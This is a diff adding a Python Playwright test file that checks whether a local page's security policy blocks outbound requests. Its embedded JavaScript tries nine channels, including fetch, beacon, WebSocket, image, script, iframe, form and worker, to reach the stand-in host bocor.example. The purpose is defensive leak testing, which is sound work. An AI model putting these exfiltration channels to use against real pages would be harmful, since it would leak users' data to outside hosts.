@@ -1,0 +1,89 @@
+"""Nothing leaves the computer: what a page tries to send never gets as far as the network."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page, Playwright, Request, sync_playwright
+
+from tests.browsers import Network, browsing, open_page
+
+pytestmark = pytest.mark.browser
+
+SENT = """
+(async () => {
+  const tried = [];
+  const attempt = async (name, send) => { try { await send(); tried.push(name); } catch (error) { tried.push(name + " refused"); } };
+  await attempt("fetch", () => fetch("http://bocor.example/fetch"));
+  await attempt("beacon", () => navigator.sendBeacon("http://bocor.example/beacon", "isi"));
+  await attempt("xhr", () => new Promise((done, failed) => { const asked = new XMLHttpRequest(); asked.open("GET", "http://bocor.example/xhr"); asked.onload = done; asked.onerror = failed; asked.send(); }));
+  await attempt("socket", () => new Promise((done, failed) => { const socket = new WebSocket("ws://bocor.example/socket"); socket.onopen = done; socket.onerror = failed; }));
+  await attempt("image", () => new Promise((done, failed) => { const image = new Image(); image.onload = done; image.onerror = failed; image.src = "http://bocor.example/image"; document.body.append(image); }));
+  await attempt("script", () => new Promise((done, failed) => { const script = document.createElement("script"); script.onload = done; script.onerror = failed; script.src = "http://bocor.example/script"; document.body.append(script); }));
+  await attempt("frame", () => { const frame = document.createElement("iframe"); frame.src = "http://bocor.example/frame"; document.body.append(frame); });
+  await attempt("form", () => { const form = document.createElement("form"); form.action = "http://bocor.example/form"; form.target = "_blank"; document.body.append(form); form.submit(); });
+  await attempt("worker", () => new Promise((done, failed) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://bocor.example/worker').then(() => postMessage(1), () => postMessage(0))"]))); worker.onmessage = ({ data }) => (data ? done() : failed()); worker.onerror = failed; }));
+  await new Promise((done) => setTimeout(done, 300));
+  return tried.join(", ");
+})()
+"""
+
+
+@pytest.fixture(scope="module")
+def playwright() -> Iterator[Playwright]:
+    with sync_playwright() as running:
+        yield running
+
+
+def run(page: Page, script: str) -> str:
+    """What a script gives that runs in the page whatever its policy says, as the browser's own tools run it."""
+    session = page.context.new_cdp_session(page)
+    told = session.send("Runtime.evaluate", {"expression": script, "awaitPromise": True, "returnByValue": True})
+    return str(told["result"].get("value"))
+
+
+def test_whatever_a_script_in_the_page_sends_is_refused(
+    playwright: Playwright, page_file: Path, tmp_path: Path
+) -> None:
+    network, asked = Network(), list[str]()
+    with browsing(playwright, "chromium", tmp_path, network) as context:
+        page = open_page(context, page_file.as_uri())
+        page.on("request", lambda request: asked.append(request.url))
+        tried = run(page, SENT)
+    assert len(tried.split(", ")) == 9, tried
+    assert not network.leaks
+    assert {
+        "fetch refused",
+        "xhr refused",
+        "socket refused",
+        "image refused",
+        "script refused",
+        "worker refused",
+    } <= set(tried.split(", "))
+
+
+def test_the_same_from_a_page_without_a_policy_reaches_the_network(playwright: Playwright, tmp_path: Path) -> None:
+    """So that the test above can fail."""
+    network, page_file = Network(), tmp_path / "halaman.html"
+    page_file.write_text("<!doctype html><title>x</title><p>x</p>", encoding="utf-8")
+    with browsing(playwright, "chromium", tmp_path, network) as context:
+        page = context.new_page()
+        page.goto(page_file.as_uri())
+        run(page, SENT)
+    assert {line.split("/")[3].split()[0] for line in network.leaks if "bocor.example/" in line} >= {
+        "fetch", "beacon", "xhr", "image", "script", "frame", "worker",
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ["chromium", "firefox"])
+def test_the_page_asks_for_nothing_but_itself(
+    playwright: Playwright, page_file: Path, tmp_path: Path, name: str
+) -> None:
+    network, asked = Network(), list[Request]()
+    with browsing(playwright, name, tmp_path, network) as context:
+        context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - it keeps something at the function
+        open_page(context, page_file.as_uri())
+    assert {request.url.partition(":")[0] for request in asked} <= {"file", "blob"}
+    assert not network.leaks
